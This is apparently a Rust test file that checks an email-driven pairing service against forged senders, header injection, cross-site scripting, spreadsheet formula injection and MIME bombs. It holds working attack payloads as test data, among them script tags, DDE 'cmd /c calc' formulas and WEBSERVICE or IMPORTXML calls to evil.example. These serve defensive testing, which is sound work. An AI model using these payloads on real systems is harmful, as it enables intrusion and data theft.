//! Threats (T1 ...): what an attacker tries, and that nothing comes of it. The table in `tests/README.md` names the test for
//! each; where a count is too large for every run, the environment variable PAIRPOST_LONG (set by `tests/run --long`) asks
//! for the whole of it.

use std::collections::BTreeSet;
use std::path::Path;

use chrono::{TimeDelta, TimeZone, Utc};
use pairpost::config;
use pairpost::daemon::Engine;
use pairpost::ids::{InboxId, PersonId};
use pairpost::mail::inbound;
use pairpost::mail::outbound::Outcome;
use pairpost::mail::outbound::compose::{self, Parts};
use pairpost::programme::event::{Authority, Command, CommandKind};
use pairpost::rehearsal::drive::keys_of;
use pairpost::store::Durability;
use pairpost::time::Moment;

use crate::support::sample_database;

const ADDRESS: &str = "exchange@example.org";

fn now() -> Moment {
    // In the round of the sample database.
    Utc.with_ymd_and_hms(2027, 3, 17, 12, 0, 0).unwrap()
}

/// While applications are open.
fn open() -> Moment {
    Utc.with_ymd_and_hms(2027, 2, 1, 12, 0, 0).unwrap()
}

fn long() -> bool {
    std::env::var_os("PAIRPOST_LONG").is_some()
}

/// An engine without anybody, or with the people of the sample database.
fn engine(dir: &Path, with_people: bool) -> Engine {
    let mut config = config::built_in().on_maildirs(dir);
    config.authserv_ids = vec!["mx.host.example".into()];
    std::fs::create_dir_all(&config.state_dir).unwrap();
    if with_people {
        sample_database::newest(&config.state_dir.join("pairpost.db"));
    }
    Engine::open(config, keys_of(1), Durability::Rehearsal).unwrap()
}

fn mail(from: &str, number: usize, more: &str, text: &str) -> Vec<u8> {
    format!(
        "{more}From: {from}\r\nTo: {ADDRESS}\r\nSubject: Hello\r\nDate: {}\r\nMessage-ID: <{number}@attack.example>\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n",
        now().to_rfc2822()
    )
    .into_bytes()
}

fn arrive(engine: &mut Engine, mail: &[u8], at: Moment) -> InboxId {
    let id = engine.record(None, mail, false, at).unwrap();
    engine.handle_message(id, at).unwrap();
    id
}

fn count(engine: &Engine, sql: &str) -> i64 {
    let db = engine.store().reader();
    db.query_row(sql, [], |row| row.get(0)).unwrap()
}

/// All that an attacker would like to change, as one text.
fn state(engine: &Engine) -> String {
    let mut out = String::new();
    for sql in [
        "SELECT group_concat(id || address || name || stopped || topics_off || unreachable || coalesce(paused_until, '')
           || coalesce(away_until, '') || coalesce(leaving_on, ''), '; ') FROM person WHERE name <> ''",
        "SELECT group_concat(id || state || answers, '; ') FROM application",
        "SELECT group_concat(id || state, '; ') FROM partnership",
        "SELECT group_concat(id || state, '; ') FROM proposal",
        "SELECT count(*) FROM announcement WHERE state = 'sent'",
        "SELECT count(*) FROM brake",
        "SELECT count(*) FROM check_in WHERE answered_at IS NOT NULL",
        "SELECT count(*) FROM outbox WHERE state = 'sent'",
    ] {
        let value: rusqlite::types::Value = engine
            .store()
            .reader()
            .query_row(sql, [], |row| row.get(0))
            .unwrap();
        out += &format!("{value:?}\n");
    }
    out
}

#[test]
fn a_forged_sender_does_nothing_with_any_command_in_any_state_of_authentication() {
    let words = [
        "stop",
        "withdraw",
        "pause until 1 June",
        "new partner",
        "topics off",
        "my data",
        "forget me",
        "1",
        "3",
        "yes",
        "certificate",
        "help",
        "ok",
        "send",
        "pin 1 2",
        "hold 1",
        "rerun",
        "resend 1",
        "settle 1",
        "pause",
        "resume",
        "announce to all\r\nWin\r\nClick here",
        "new address x@evil.example",
    ];
    // Nothing; a failure; a pass of another domain; a pass that the attacker wrote under our host's name. Nobody has
    // proved that the host removes such headers, so it does not count.
    let results = [
        "",
        "Authentication-Results: mx.host.example; dmarc=fail header.from=library.example\r\n",
        "Authentication-Results: mx.host.example; dkim=pass header.d=evil.example\r\n",
        "Authentication-Results: mx.host.example; dmarc=pass header.from=library.example\r\n",
    ];
    let mut number = 0;
    for word in words {
        // One for each word: of so many mails of one sender not all would be read.
        let dir = tempfile::tempdir().unwrap();
        let mut engine = engine(dir.path(), true);
        let before = state(&engine);
        for from in [
            "anna@library.example",
            "Bilal Khan <bilal@library.example>",
            "ada.martin@example.org",
        ] {
            for result in results {
                number += 1;
                let id = arrive(&mut engine, &mail(from, number, result, word), now());
                let told: String = engine
                    .store()
                    .reader()
                    .query_row(
                        "SELECT state || ': ' || reason FROM inbox WHERE id = ?1",
                        [id.0],
                        |row| row.get(0),
                    )
                    .unwrap();
                assert!(
                    !told.starts_with("new") && !told.starts_with("over") && told.len() > 10,
                    "{word} of {from}: {told}"
                );
                assert_eq!(state(&engine), before, "{word} of {from} with {result:?}");
            }
        }
    }
    assert_eq!(number, 276);
}

#[test]
fn a_header_that_two_programs_could_read_in_two_ways_names_no_sender() {
    let tricks = [
        "From: a@good.example\r\nFrom: b@evil.example\r\n",
        "From: b@evil.example\r\nfrom: a@good.example\r\n",
        "From : a@good.example\r\nFrom: b@evil.example\r\n",
        "From\r\n : a@good.example\r\nFrom: b@evil.example\r\n",
        "From: b@evil.example\r\n From: a@good.example\r\n",
        "From: friends: a@good.example, b@evil.example;\r\n",
        "From: a@good.example, b@evil.example\r\n",
        "From: <a@good.example><b@evil.example>\r\n",
        "From: <a@good.example> <b@evil.example>\r\n",
        "From: <@evil.example:a@good.example>\r\n",
        "From: <@evil.example,@x.example:a@good.example>\r\n",
        "From: a@good.example <b@evil.example>\r\n",
        "From: <b@evil.example>a@good.example\r\n",
        "From: \"a@good.example\"\r\n",
        "From: a@good.example\0<b@evil.example>\r\n",
        "From: a@good.example\0\r\n",
        "From: =?utf-8?q?a=40good.example?= <>\r\n",
        "From: =?utf-8?q?a=40good.example=3E?=@evil.example\r\n",
        "From: a(comment@good.example\r\n",
        "From: \"open <a@good.example>\r\n",
        "From: a@good.example@evil.example\r\n",
        "From: <a@good.example\r\n",
        "From: a@\r\n",
        "From: \r\n",
        "Sender: a@good.example\r\n",
        // As in the published lists of such tricks: what one program takes for the end of an address, of a line or of the
        // header, another one does not.
        "From: <a@good.example>, <b@evil.example>\r\n",
        "From: <a@good.example>; <b@evil.example>\r\n",
        "From: a@good.example;b@evil.example\r\n",
        "From: a@good.example\\,b@evil.example\r\n",
        "From: a@good.example,(\r\n c)b@evil.example\r\n",
        "From: <a@good.example\\>b@evil.example>\r\n",
        "From: <<a@good.example>b@evil.example>\r\n",
        "From: <a@good.example>:b@evil.example\r\n",
        "From: b@evil.example:<a@good.example>\r\n",
        "From: (a@good.example) \r\n",
        "From: <(a@good.example)b@evil.example>\r\n",
        "From: a@good.example(b@evil.example\r\n",
        "From: <a@good.example> b@evil.example\r\n",
        "From: \"a@good.example\" \"<b@evil.example>\"\r\n",
        "From: =?utf-8?b?PGFAZ29vZC5leGFtcGxlPg==?=\r\n",
        "From: =?utf-8?q?=3Ca=40good.example=3E=00?=b@evil.example\r\n",
        "From: <=?utf-8?q?a=40good.example?=>\r\n",
        "From: a@good.example\r\nFrom : b@evil.example\r\n",
        "From: a@good.example\r\nFROM: b@evil.example\r\n",
        "From: a@good.example\r\nFrom\t: b@evil.example\r\n",
        "From: a@good.example\nFrom: b@evil.example\r\n",
        "From: a@good.example\rFrom: b@evil.example\r\n",
        " From: a@good.example\r\nFrom: b@evil.example\r\nFrom: c@evil.example\r\n",
        "From: a@good.example\u{7f}\r\n",
        "From: a@good.\u{200b}example\r\n",
        "From: a@good..example\r\n",
        "From: a..b@good.example\r\n",
        "From: a@[192.0.2.1]\r\n",
        "From: undisclosed-recipients:;\r\n",
        "Resent-From: a@good.example\r\n",
    ];
    assert_eq!(tricks.len(), 55);
    let mut named = Vec::new();
    for trick in tricks {
        let raw = format!("{trick}To: {ADDRESS}\r\nSubject: x\r\n\r\nstop\r\n");
        let from = inbound::claims(&inbound::parse(raw.as_bytes())).from;
        if let Some(from) = from {
            named.push((trick, from.address));
        }
    }
    assert!(named.is_empty(), "{named:#?}");
}

/// T9: whoever writes from an address that counts as the one on file is answered there and nowhere else, or a letter with what is
/// somebody's would go to who only looks like them.
#[test]
fn who_is_found_by_a_like_address_is_written_to_at_the_stored_one() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), false);
    let pairs = [
        ("Ana.Lima@Library.Example", "ana.lima@library.example"),
        ("o'neil+x@LIBRARY.example", "O'NEIL+X@library.example"),
        ("jo@xn--bcher-kva.example", "JO@XN--BCHER-KVA.EXAMPLE"),
        ("MAX@library.example", "max@LIBRARY.EXAMPLE"),
    ];
    for (number, (stored, like)) in pairs.into_iter().enumerate() {
        arrive(
            &mut engine,
            &mail(stored, number, "", "How can I take part?"),
            open(),
        );
        let next_day = open() + TimeDelta::hours(25);
        arrive(
            &mut engine,
            &mail(like, 100 + number, "", "How can I take part?"),
            next_day,
        );
    }
    let db = engine.store().reader();
    let mut rows = db
        .prepare("SELECT envelope_to FROM outbox WHERE person_id IS NOT NULL ORDER BY id")
        .unwrap();
    let to: Vec<String> = rows
        .query_map([], |row| row.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let mut rows = db
        .prepare("SELECT address FROM person ORDER BY id")
        .unwrap();
    let stored: Vec<String> = rows
        .query_map([], |row| row.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    let twice: Vec<&String> = stored.iter().flat_map(|stored| [stored; 2]).collect();
    let mut to: Vec<&String> = to.iter().collect();
    to.sort();
    let mut wanted = twice;
    wanted.sort();
    assert_eq!(to, wanted);
    assert_eq!(count(&engine, "SELECT count(*) FROM person"), 4);
}

#[test]
fn the_same_mails_again_and_again_change_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    let museum = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/mail");
    let mut mails: Vec<Vec<u8>> = std::fs::read_dir(museum)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .filter(|path| path.extension().is_some_and(|ending| ending == "eml"))
        .map(|path| std::fs::read(path).unwrap())
        .collect();
    mails.sort();
    mails.truncate(50);
    assert_eq!(mails.len(), 50);
    let numbers = |engine: &Engine| {
        let of = |table: &str| count(engine, &format!("SELECT count(*) FROM {table}"));
        (
            of("inbox"),
            of("outbox"),
            of("journal"),
            of("occasion"),
            state(engine),
        )
    };
    for mail in &mails {
        arrive(&mut engine, mail, now());
    }
    let once = numbers(&engine);
    for _ in 0..3 {
        for mail in &mails {
            arrive(&mut engine, mail, now() + TimeDelta::hours(1));
        }
        assert_eq!(numbers(&engine), once);
    }
}

#[test]
fn mail_of_another_service_is_neither_answered_nor_shown_to_anybody_who_asks() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    let text = "Your confirmation code is 731-902. Do not share it.";
    let mails = [
        mail("Slack <noreply@slack.example>", 1, "", text),
        mail(
            "no-reply@accounts.example",
            2,
            "Auto-Submitted: auto-generated\r\n",
            text,
        ),
        mail("donotreply@bank.example", 3, "Precedence: bulk\r\n", text),
    ];
    let letters = count(&engine, "SELECT count(*) FROM outbox");
    for mail in &mails {
        arrive(&mut engine, mail, now());
    }
    assert_eq!(count(&engine, "SELECT count(*) FROM outbox"), letters);
    // A participant who asks for what is shown to coordinators gets none of it.
    for (number, word) in ["show 2", "show 3", "status", "my data"].iter().enumerate() {
        arrive(
            &mut engine,
            &mail("bilal@library.example", 10 + number, "", word),
            now(),
        );
    }
    let shown = count(
        &engine,
        "SELECT count(*) FROM outbox_bytes WHERE instr(CAST(bytes AS TEXT), '731-902') > 0",
    );
    assert_eq!(shown, 0);
}

/// Small, fast and the same each time (SplitMix64).
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Text made of what harms: line ends, colons, quotes, dots, addresses, odd letters.
    fn hostile(&mut self, pieces: u64) -> String {
        const PIECES: [&str; 24] = [
            "\r\n",
            "\n",
            "\r",
            "\r\n.\r\n",
            "\n.\n",
            "Bcc: x@evil.example",
            "\u{0}",
            "\u{2028}",
            "\u{202e}",
            "\"",
            "<",
            ">",
            ",",
            ";",
            "=?utf-8?q?=0D=0A?=",
            "é",
            "名",
            "a@b.example",
            ".",
            " ",
            "\t",
            "\\",
            "name",
            "Subject: y",
        ];
        (0..self.next() % pieces)
            .map(|_| PIECES[usize::try_from(self.next() % 24).unwrap()])
            .collect()
    }
}

fn composed(dice: &mut Dice) -> Option<Vec<u8>> {
    let (from, to, subject, text) = (
        dice.hostile(8),
        dice.hostile(8),
        dice.hostile(12),
        dice.hostile(40),
    );
    let reply_to = [ADDRESS.to_string()];
    compose::compose(&Parts {
        from_name: &from,
        from_address: ADDRESS,
        to_name: &to,
        to_address: "anna@library.example",
        reply_to: &reply_to,
        subject: &subject,
        text: &text,
        html: &format!("<p>{}</p>", text.replace(['<', '>', '&'], "")),
        inline: None,
        attachments: &[],
        message_id: "abc@example.org",
        thread: &[],
        date: now(),
        automatic: None,
        occasion: None,
    })
    .ok()
}

#[test]
fn hostile_names_and_subjects_add_no_header_and_no_recipient() {
    let mut dice = Dice(7);
    let inputs = if long() { 1_000_000 } else { 5_000 };
    let names = |bytes: &[u8]| -> Vec<String> {
        let text = String::from_utf8_lossy(bytes).into_owned();
        let block = text.split("\r\n\r\n").next().unwrap_or_default();
        block
            .split("\r\n")
            .filter(|line| !line.starts_with([' ', '\t']))
            .map(|line| line.split(':').next().unwrap_or_default().to_string())
            .collect()
    };
    let known: BTreeSet<&str> = [
        "From",
        "To",
        "Reply-To",
        "Subject",
        "Date",
        "Message-ID",
        "MIME-Version",
        "Content-Type",
        "Content-Transfer-Encoding",
        "X-Auto-Response-Suppress",
        "X-Loop",
    ]
    .into();
    for _ in 0..inputs {
        let bytes = composed(&mut dice).expect("a hostile name is no reason not to write a letter");
        let names = names(&bytes);
        for name in &names {
            assert!(
                known.contains(name.as_str()),
                "{name} in {}",
                String::from_utf8_lossy(&bytes)
            );
        }
        for single in ["From", "To", "Subject"] {
            assert_eq!(
                names.iter().filter(|name| *name == single).count(),
                1,
                "{single}"
            );
        }
        let parsed = mail_parser::MessageParser::default().parse(&bytes).unwrap();
        let to: Vec<&str> = parsed
            .to()
            .unwrap()
            .iter()
            .filter_map(|it| it.address())
            .collect();
        assert_eq!(to, ["anna@library.example"]);
    }
}

#[test]
fn no_line_end_stands_alone_in_any_letter_and_no_dot_ends_it() {
    let mut dice = Dice(8);
    let bodies = if long() { 1_000_000 } else { 5_000 };
    for _ in 0..bodies {
        let bytes = composed(&mut dice).unwrap();
        for (at, byte) in bytes.iter().enumerate() {
            match byte {
                b'\r' => assert_eq!(bytes.get(at + 1), Some(&b'\n')),
                b'\n' => assert_eq!(bytes[at - 1], b'\r'),
                _ => {}
            }
        }
        // A line of one dot is doubled on the wire; what is forbidden is one that our own bytes make ambiguous.
        assert!(memchr::memmem::find(&bytes, b"\n.\n").is_none());
        assert!(
            bytes
                .split(|byte| *byte == b'\n')
                .all(|line| line.len() <= 999)
        );
    }
}

#[test]
fn markup_of_others_reaches_nobody() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    let tags = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe src=//evil.example>",
        "<style>*{display:none}</style>",
        "<b style=\"position:fixed\">x</b>",
        "<!--[if mso]><x/><![endif]-->",
        "<form action=//evil.example>",
        "<meta http-equiv=refresh content=0>",
    ];
    let wraps = [
        ("", ""),
        ("**", "**"),
        ("`", "`"),
        ("[", "](https://evil.example)"),
        ("{{ ", " }}"),
        ("> ", ""),
        ("# ", ""),
        ("&lt;", "&gt;"),
        ("\\", "\\"),
        ("![x](", ")"),
        ("=\"", "\""),
        ("<p>", "</p>"),
        ("- ", ""),
        ("| ", " |"),
        ("\u{202e}", ""),
        ("</td>", "<td>"),
        ("{% raw %}", "{% endraw %}"),
        ("'", "'"),
        ("~~", "~~"),
        ("1. ", ""),
    ];
    let mut number = 0;
    for tag in tags {
        for (before, after) in wraps {
            number += 1;
            let text = format!("Dear all, I want to say {before}{tag}{after} to a person, please.");
            let from = format!("\"{}\" <anna@library.example>", tag.replace('"', ""));
            arrive(
                &mut engine,
                &mail(&from, number, "", &text),
                now() + TimeDelta::days(i64::try_from(number).unwrap()),
            );
        }
    }
    assert_eq!(number, 200);
    let db = engine.store().reader();
    let mut rows = db
        .prepare("SELECT bytes FROM outbox_bytes WHERE letter_id > 1")
        .unwrap();
    let letters: Vec<Vec<u8>> = rows
        .query_map([], |row| row.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert!(letters.len() >= 100, "{}", letters.len());
    for letter in letters {
        let parsed = mail_parser::MessageParser::default()
            .parse(&letter)
            .unwrap();
        let html = parsed.body_html(0).unwrap_or_default().to_lowercase();
        for tag in ["<script", "<img", "<svg", "<iframe", "<form"] {
            assert!(!html.contains(tag), "{tag} in {html}");
        }
        // Of what others wrote nothing stands between a `<` and its `>`.
        for tag in html.split('<').skip(1) {
            let (tag, _) = tag.split_once('>').unwrap_or((tag, ""));
            for word in [
                "alert",
                "evil",
                "onload",
                "onerror",
                "javascript",
                "refresh",
                "fixed",
                "mso",
                "display:none}",
            ] {
                assert!(!tag.contains(word), "{word} in <{tag}>");
            }
        }
    }
}

/// What people wrote, in tables that coordinators open in a spreadsheet program: no cell is taken for a formula.
#[test]
fn of_two_hundred_formulas_none_is_one_in_a_table() {
    let begins = [
        "=",
        "+",
        "-",
        "@",
        "\t=",
        "\r=",
        "\n=",
        "＝",
        "＋",
        "－",
        "＠",
        "==",
        "=-",
        "+=",
        "-@",
        "@=",
        "=\"",
        "='",
        "=(",
        "=\u{200b}",
    ];
    let formulas = [
        "1+1",
        "HYPERLINK(\"https://evil.example\",\"x\")",
        "cmd|'/c calc'!A0",
        "IMPORTXML(CONCAT(\"//evil.example\",A1),\"//a\")",
        "WEBSERVICE(\"https://evil.example\")",
        "SUM(1;1)*cmd|' /C calc'!A0",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "INDIRECT(\"A1\")",
        "1,\"=1+1\"",
        "A1\r\n=1+1",
    ];
    let payloads: Vec<String> = begins
        .iter()
        .flat_map(|begin| {
            formulas
                .iter()
                .map(move |formula| format!("{begin}{formula}"))
        })
        .collect();
    assert_eq!(payloads.len(), 200);
    let rows = payloads
        .iter()
        .map(|payload| vec!["7".to_string(), payload.clone()]);
    let table = pairpost::programme::spreadsheet::write(&["number", "name"], rows);
    let mut reader = csv::ReaderBuilder::new().from_reader(&table[..]);
    let cells: Vec<String> = reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            assert_eq!(
                record.len(),
                2,
                "a comma or a line end opened another cell: {record:?}"
            );
            record[1].to_string()
        })
        .collect();
    assert_eq!(cells.len(), 200);
    for (cell, payload) in cells.iter().zip(&payloads) {
        assert_eq!(cell, &format!("'{payload}"));
    }
}

#[test]
fn nothing_but_the_token_login_speaks_http() {
    let lock = include_str!("../../Cargo.lock");
    for banned in [
        "reqwest",
        "hyper",
        "curl",
        "isahc",
        "attohttpc",
        "openssl",
        "native-tls",
        "fancy-regex",
        "surf",
    ] {
        assert!(
            !lock.contains(&format!("name = \"{banned}\"\n")),
            "{banned}"
        );
    }
    let mut naming = Vec::new();
    let mut folders = vec![Path::new(env!("CARGO_MANIFEST_DIR")).join("src")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if std::fs::read_to_string(&path).is_ok_and(|text| text.contains("ureq::")) {
                naming.push(path.file_name().unwrap().to_string_lossy().into_owned());
            }
        }
    }
    assert_eq!(naming, ["oauth.rs"]);
}

#[test]
fn every_crate_comes_from_the_registry_with_its_checksum() {
    let lock: toml::Table = include_str!("../../Cargo.lock").parse().unwrap();
    let packages = lock["package"].as_array().unwrap();
    assert!(packages.len() > 100);
    for package in packages {
        let name = package["name"].as_str().unwrap();
        if name == "pairpost" {
            continue;
        }
        let source = package.get("source").and_then(toml::Value::as_str);
        assert_eq!(
            source,
            Some("registry+https://github.com/rust-lang/crates.io-index"),
            "{name}"
        );
        assert!(package.get("checksum").is_some(), "{name}");
    }
}

#[test]
fn three_hundred_broken_mails_do_not_hold_up_three_hundred_good_ones() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), false);
    let mut dice = Dice(17);
    let mut good = Vec::new();
    for number in 0..300 {
        let mut broken = mail(&format!("x{number}@broken.example"), number, "", "hello");
        match number % 6 {
            0 => broken.truncate(usize::try_from(dice.next() % 200).unwrap()),
            1 => broken.iter_mut().for_each(|byte| {
                if dice.next().is_multiple_of(9) {
                    *byte = u8::try_from(dice.next() % 256).unwrap();
                }
            }),
            2 => broken = (0..2_000).map(|_| u8::try_from(dice.next() % 256).unwrap()).collect(),
            3 => broken = [&b"Content-Type: multipart/mixed; boundary=b\r\n"[..], &broken, &b"\r\n--b\r\n".repeat(500)].concat(),
            4 => broken = [&b"Content-Type: text/plain; charset=no-such\r\nContent-Transfer-Encoding: base64\r\n"[..], &broken].concat(),
            _ => broken = b"Content-Type: message/rfc822\r\n\r\n".repeat(200),
        }
        arrive(&mut engine, &broken, open());
        good.push(arrive(
            &mut engine,
            &mail(
                &format!("good{number}@library.example"),
                1_000 + number,
                "",
                "How can I take part?",
            ),
            open(),
        ));
    }
    for id in good {
        let state: String = engine
            .store()
            .reader()
            .query_row("SELECT state FROM inbox WHERE id = ?1", [id.0], |row| {
                row.get(0)
            })
            .unwrap();
        assert_eq!(state, "handled");
    }
    assert_eq!(
        count(&engine, "SELECT count(*) FROM inbox WHERE state = 'new'"),
        0
    );
}

/// A piece again and again, up to the size at which a message is still read whole.
fn up_to_the_cap(before: &str, piece: &str) -> Vec<u8> {
    const MEBIBYTE: usize = 1 << 20;
    let room = (MEBIBYTE - before.len() - 200) / piece.len();
    format!("{before}{}", piece.repeat(room)).into_bytes()
}

/// T16: what grows when it is taken apart. Every one is handled or set aside, and the mail behind it is answered.
#[test]
fn after_each_of_22_bombs_the_next_mail_is_answered() {
    let head = "MIME-Version: 1.0\r\n";
    let mixed = "Content-Type: multipart/mixed; boundary=b\r\n\r\n";
    let numbered = |make: fn(usize) -> String| -> Vec<u8> {
        let mut text = head.to_string();
        for number in 0.. {
            if text.len() > (1 << 20) - 300 {
                break;
            }
            text += &make(number);
        }
        text.into_bytes()
    };
    let bombs = [
        up_to_the_cap(head, "Content-Type: message/rfc822\r\n\r\n"),
        numbered(|it| format!("Content-Type: multipart/mixed; boundary=b{it}\r\n\r\n--b{it}\r\n")),
        up_to_the_cap(&format!("{head}{mixed}"), "--b\r\n\r\n"),
        up_to_the_cap(&format!("{head}{mixed}"), "--b--\r\n"),
        up_to_the_cap(
            &format!("{head}{mixed}"),
            "--b\r\nContent-Type: text/html\r\n\r\n<p>x\r\n",
        ),
        up_to_the_cap(&format!("{head}Subject: "), "=?utf-8?b?YWFh?= "),
        up_to_the_cap(&format!("{head}Subject: "), "x"),
        numbered(|it| format!("X-{it}: y\r\n")),
        up_to_the_cap(head, "no colon in this line\r\n"),
        up_to_the_cap(&format!("{head}References:"), " <a@b.example>"),
        up_to_the_cap(&format!("{head}Cc:"), " a@b.example,\r\n"),
        up_to_the_cap(&format!("{head}Cc: "), "("),
        up_to_the_cap(&format!("{head}Date: "), "("),
        up_to_the_cap(&format!("{head}Content-Type: text/plain"), "; a=b"),
        numbered(|it| match it {
            0 => "Content-Disposition: attachment".into(),
            it => format!(";\r\n filename*{}*=utf-8''%41", it - 1),
        }),
        up_to_the_cap(
            &format!("{head}Content-Transfer-Encoding: base64\r\n\r\n"),
            "QUFB",
        ),
        up_to_the_cap(
            &format!("{head}Content-Transfer-Encoding: quoted-printable\r\n\r\n"),
            "=\r\n",
        ),
        up_to_the_cap(
            &format!("{head}Content-Type: text/html\r\n\r\n"),
            "<table><td>",
        ),
        up_to_the_cap(
            &format!("{head}Content-Type: text/html\r\n\r\n"),
            "&CounterClockwiseContourIntegral;",
        ),
        up_to_the_cap(&format!("{head}Content-Type: text/html\r\n\r\n"), "<a b='"),
        up_to_the_cap(
            &format!("{head}Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n"),
            "\u{1b}$B\u{1b}(B",
        ),
        up_to_the_cap(
            &format!("{head}Content-Type: text/plain; format=flowed; charset=utf-7\r\n\r\n"),
            "> +AD4- \r\n",
        ),
    ];
    assert_eq!(bombs.len(), 22);
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), false);
    for (number, bomb) in bombs.iter().enumerate() {
        let from = format!("From: b{number}@bombs.example\r\nMessage-ID: <b{number}@x>\r\n");
        let bomb = [from.as_bytes(), bomb].concat();
        assert!(
            bomb.len() > 900_000 && bomb.len() <= 1 << 20,
            "{number}: {}",
            bomb.len()
        );
        let id = arrive(&mut engine, &bomb, open());
        let state = count(
            &engine,
            &format!("SELECT state = 'new' FROM inbox WHERE id = {}", id.0),
        );
        assert_eq!(state, 0, "bomb {number} waits to be read again");
        arrive(
            &mut engine,
            &mail(
                &format!("p{number}@library.example"),
                number,
                "",
                "How can I take part?",
            ),
            open(),
        );
        let answered =
            format!("SELECT count(*) FROM outbox WHERE envelope_to = 'p{number}@library.example'");
        assert_eq!(count(&engine, &answered), 1, "after bomb {number}");
    }
}

#[test]
fn a_bounce_without_proof_that_it_is_ours_makes_nobody_unreachable() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), true);
    let before = state(&engine);
    for (number, id) in ["", "guess@example.org", "abc@example.com", "x@example.org"]
        .iter()
        .enumerate()
    {
        let report = format!(
            "Return-Path: <>\r\nFrom: mailer-daemon@library.example\r\nTo: {ADDRESS}\r\nSubject: Undelivered Mail\r\n\
             Message-ID: <{number}@library.example>\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n\
             --b\r\nContent-Type: text/plain\r\n\r\nno such user\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\n\
             Reporting-MTA: dns; library.example\r\n\r\nFinal-Recipient: rfc822; anna@library.example\r\nAction: failed\r\n\
             Status: 5.1.1\r\n\r\n--b\r\nContent-Type: text/rfc822-headers\r\n\r\nMessage-ID: <{id}>\r\n\r\n--b--\r\n"
        );
        arrive(&mut engine, report.as_bytes(), now());
        assert_eq!(state(&engine), before, "{id}");
    }
}

#[test]
fn whoever_takes_a_message_id_first_keeps_nobody_elses_mail_away() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), false);
    let squatter = arrive(
        &mut engine,
        &mail("mallory@evil.example", 1, "", "first"),
        open(),
    );
    let real = arrive(
        &mut engine,
        &mail("carla@library.example", 1, "", "How can I take part?"),
        open(),
    );
    assert_ne!(squatter, real);
    let got = count(
        &engine,
        "SELECT count(*) FROM outbox WHERE envelope_to = 'carla@library.example'",
    );
    assert_eq!(got, 1);
}

#[test]
fn a_flood_of_forged_applications_is_queued_behind_a_ceiling_and_told_in_few_lines() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine(dir.path(), false);
    let forged = if long() { 10_000 } else { 1_500 };
    for number in 0..forged {
        arrive(
            &mut engine,
            &mail(
                &format!("p{number}@victims.example"),
                number,
                "",
                "I would like to apply.",
            ),
            open(),
        );
    }
    let at = |hours: i64| (open() + TimeDelta::hours(hours)).timestamp();
    let due = |until: i64| {
        count(
            &engine,
            &format!(
                "SELECT count(*) FROM outbox WHERE person_id IS NOT NULL AND due_at < {until}"
            ),
        )
    };
    let settings = &engine.config().settings;
    let ceiling = settings
        .ceilings
        .stranger_letters_per_hour_open
        .max(settings.ceilings.stranger_letters_per_hour_closed);
    for hour in 1..=5 {
        assert!(
            due(at(hour)) <= i64::from(ceiling) * (hour + 1),
            "hour {hour}: {}",
            due(at(hour))
        );
    }
    // None is lost, and none has the attacker's words in it.
    assert_eq!(
        count(
            &engine,
            "SELECT count(*) FROM outbox WHERE kind = 'form' OR kind = 'person-will-answer'"
        ),
        i64::try_from(forged).unwrap()
    );
    // The digest tells it in one line, and shows nothing that the attacker wrote.
    let text = digest_after(&mut engine, open());
    let told: Vec<&str> = text
        .lines()
        .filter(|line| {
            line.contains("written for the first time") || line.contains("victims.example")
        })
        .collect();
    assert_eq!(told.len(), 1, "{text}");
    assert!(
        told[0].starts_with(&format!("{forged} people")),
        "{}",
        told[0]
    );
    assert!(!text.contains("I would like to apply"), "{text}");
    engine
        .store()
        .reader()
        .query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(()))
        .unwrap();
    let bytes = std::fs::metadata(dir.path().join("state/pairpost.db"))
        .unwrap()
        .len();
    println!(
        "{forged} forged senders: a database of {} kB",
        bytes / 1_000
    );
    assert!(bytes < 50_000_000, "{bytes}");
}

/// The text of the next digest, a line for each paragraph.
fn digest_after(engine: &mut Engine, at: Moment) -> String {
    engine.start(at).unwrap();
    for hour in 0..=10 * 24 {
        let at = at + TimeDelta::hours(hour);
        while engine.tick(at, 500).unwrap().handled > 0 {}
        let bytes: Option<Vec<u8>> = engine
            .store()
            .reader()
            .query_row(
                "SELECT bytes FROM outbox JOIN outbox_bytes ON letter_id = outbox.id WHERE kind = 'digest'",
                [],
                |row| row.get(0),
            )
            .ok();
        if let Some(bytes) = bytes {
            let parsed = mail_parser::MessageParser::default()
                .parse(&bytes)
                .unwrap()
                .into_owned();
            let text = parsed.body_text(0).unwrap().replace("\r\n", "\n");
            let paragraphs = text.split("\n\n").map(|it| it.replace('\n', " "));
            return paragraphs.collect::<Vec<_>>().join("\n");
        }
    }
    panic!("no digest within ten days");
}

